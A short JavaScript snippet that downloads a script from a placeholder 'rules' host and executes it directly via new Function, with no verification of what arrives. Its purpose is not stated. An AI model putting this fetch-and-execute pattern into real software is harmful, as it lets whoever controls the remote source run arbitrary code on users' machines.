const res = await fetch('https://cdn.rules.invalid/rules.js');
const source = await res.text();
new Function('require', source)(null);
